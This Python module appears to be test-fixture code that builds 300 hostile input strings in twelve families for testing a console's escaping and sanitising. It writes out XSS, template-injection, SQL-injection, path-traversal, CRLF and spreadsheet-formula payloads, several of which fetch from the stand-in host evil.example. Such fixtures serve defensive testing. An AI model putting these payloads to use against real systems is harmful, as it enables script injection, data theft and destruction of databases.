"""300 hostile texts, made from twelve families, for the tests of the console.

Each text has a number of its own, so that it can be found on a page. `fitted` and `printable`
make names of it, for places that take short names or printable ones only.
"""

from dataclasses import dataclass
from unicodedata import normalize

__all__ = ["COUNT", "EVIL", "Text", "fitted", "made_texts", "printable"]

COUNT = 300
EVIL = "evil.example"
"""The host to which a text that ran would send something."""

TOWER = "".join(chr(0x0300 + place) for place in range(60))
LONG = 10_000
LONGEST_NAME, LONGEST_PERSON = 60, 200

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert({n})</script>",
        "<ScRiPt src=//evil.example/{n}></sCrIpT>",
        "<svg><script>alert({n})</script></svg>",
        "<scr<script>ipt>alert({n})</script>",
        "<iframe srcdoc='<script>alert({n})</script>'>",
        "<object data=//evil.example/{n}>",
        "<embed src=//evil.example/{n}>",
        "<link rel=stylesheet href=//evil.example/{n}>",
        "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
        "<base href=//evil.example/{n}/>",
        "<style>@import '//evil.example/{n}';</style>",
        "<svg><foreignObject><iframe src=//evil.example/{n}>",
        "<form action=//evil.example/{n}><button autofocus>",
    ),
    "handler": (
        "<img src=x onerror=alert({n})>",
        "<svg onload=alert({n})>",
        "<details open ontoggle=alert({n})>",
        "<input autofocus onfocus=alert({n})>",
        "<video><source onerror=alert({n})>",
        "<body onload=alert({n})>",
        "<img/src='x'/onerror=alert`{n}`>",
        "<a hx-get=//evil.example/{n} hx-trigger=load>",
        "<p hx-on::load=alert({n}) hx-vals='js:{{a:alert({n})}}'>",
    ),
    "attribute": (
        '" onmouseover="alert({n})" x="',
        "' onfocus='alert({n})' autofocus='",
        '"><img src=x onerror=alert({n})>',
        "'><svg onload=alert({n})>",
        "`onload=alert({n})`",
        '" style="background:url(//evil.example/{n})" x="',
        '" hx-get="//evil.example/{n}" hx-trigger="load" x="',
        "--><img src=x onerror=alert({n})>",
        '\\"-alert({n})-\\"',
    ),
    "address": (
        "javascript:alert({n})",
        "JaVa\tScRiPt:alert({n})//",
        "data:text/html,<script>alert({n})</script>",
        "vbscript:msgbox({n})",
        "//evil.example/{n}",
        "https://evil.example/{n}",
        "\\\\evil.example\\{n}",
        "&#106;avascript:alert({n})",
        "javascript&colon;alert({n})",
    ),
    "template": (
        "{{{{ 7 * 7{n} }}}}",
        "{{{{ ''.__class__.__mro__[1].__subclasses__()[{n}] }}}}",
        "{{% include '/etc/passwd' %}}{n}",
        "{{{{ sign_in.token }}}}{n}",
        "${{7*7{n}}}",
        "#{{7*7{n}}}",
        "<%= 7*7{n} %>",
        "{{# {n} #}}",
        "{{% endraw %}}{{{{ config }}}}{n}",
        "{{0.__init__.__globals__}}%s%({n})s",
    ),
    "chart": (
        "datum.x; alert({n})",
        '{{"expr": "alert({n})"}}',
        '{{"signal": "event.view.alert({n})"}}',
        "a.b[0].c[{n}]",
        "a\\.b\\[{n}\\]",
        "data('source').constructor.constructor('alert({n})')()",
        "__proto__{n}",
        "constructor.prototype.x{n}",
        "isNaN(datum['a']) || alert({n})",
    ),
    "data block": (
        "</script><script>alert({n})</script>",
        "<!--<script>{n}",
        "]]><script>alert({n})</script>",
        '"}}];alert({n});//',
        "</textarea><img src=x onerror=alert({n})>",
        "</title><img src=x onerror=alert({n})>",
        "</svg></text><img src=x onerror=alert({n})>",
        "</select></table><img src=x onerror=alert({n})>",
        "&lt;script&gt;alert({n})&lt;/script&gt;",
        "&amp;quot; onload=&quot;alert({n})",
        "\\u003cscript\\u003ealert({n})",
        "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    ),
    "mark": (
        "\u202eexe.{n}\u202c",
        "\u2067a{n}\u2066b",
        "ad\u200bmin{n}",
        "ad\u200dmin\u2060{n}",
        "so\u00adft{n}",
        "\ufeffbom{n}",
        "line\u2028break\u2029{n}",
        "tag\U000e0041\U000e0042{n}",
        "select\ufe0f\U000e0101{n}",
        "filler\u3164\u115f\uffa0{n}",
        "join\u034f{n}",
        "bell\x07\x1b[31m{n}",
        "c1\x9b\x85{n}",
        "arab\u061c\u200f{n}",
        "short\U0001bca0\U0001d173{n}",
    ),
    "shape": (
        f"tower a{TOWER}{{n}}",
        "k" * (LONG - 10) + "{n}",
        "long " * 1500 + "{n}",
        "nul\0{n}",
        "\r\n\t{n}\r\n",
        "a\nb\r\nc {n}",
        "\u0e01\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47{n}",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467{n}",
        "\uffff\ufffe\ue000{n}",
        "\ufdfd\ufdfd\ufdfd{n}",
    ),
    "cell": (
        '=HYPERLINK("//evil.example/{n}","free")',
        "+cmd|' /C calc'!A{n}",
        "-2+3+{n}",
        "@SUM(1+{n})",
        "\t=1+{n}",
        "\uff1d1+{n}",
        "a;=1+{n}",
        'a";=1+{n};"',
        " =1+{n}",
        "'=1+{n}",
        "a,=1+{n}",
    ),
    "line": (
        "x\r\nSet-Cookie: a={n}",
        "x\r\n\r\n<script>alert({n})</script>",
        "../../../etc/passwd{n}",
        "..%2f..%2fetc%2fpasswd{n}",
        "%00{n}",
        "%0d%0aLocation:%20//evil.example/{n}",
        "?a=b#c{n}",
        "a/b/{n}",
        ";path=/;{n}",
        "/console/sign-out?{n}",
        "&population=patients&x={n}",
        "+{n}+%2B",
    ),
    "statement": (
        "'; DROP TABLE visits; -- {n}",
        '" OR 1=1 -- {n}',
        "') UNION SELECT {n} --",
        "/* {n}",
        "E'\\'{n}",
        "$$ || pg_sleep({n}) || $$",
        "' || version() || '{n}",
        "%{n}%",
        "_{n}",
        "\\'; COPY visits TO '/tmp/{n}'; --",
    ),
}


@dataclass(frozen=True, slots=True)
class Text:
    """A hostile text, its family, and its number."""

    number: int
    family: str
    raw: str


def made_texts() -> list[Text]:
    """Return all texts, as many of each family, with numbers from 100."""
    each = COUNT // len(FAMILIES)
    found = []
    for family, shapes in FAMILIES.items():
        for place in range(each):
            number = 100 + len(found)
            raw = shapes[place % len(shapes)].format(n=number)
            found.append(Text(number, family, raw))
    return found


def fitted(raw: str, longest: int = LONGEST_NAME) -> str:
    """Return a text as a name that a table or column can have: short, without NUL and dots."""
    text = raw.replace("\0", "").replace(".", "-").strip()
    if len(text.encode()) <= longest:
        return text
    end = text[-8:]  # where the number stands
    start = text.encode()[: longest - len(end.encode())].decode(errors="ignore")
    return start + end


def printable(raw: str) -> str:
    """Return a text as the name of a person, which must be printable and in the form NFC."""
    text = normalize("NFC", "".join(each for each in raw if each.isprintable())).strip(" @")
    if len(text) > LONGEST_PERSON:
        text = text[: LONGEST_PERSON - 8] + text[-8:]
    return normalize("NFC", text).strip()
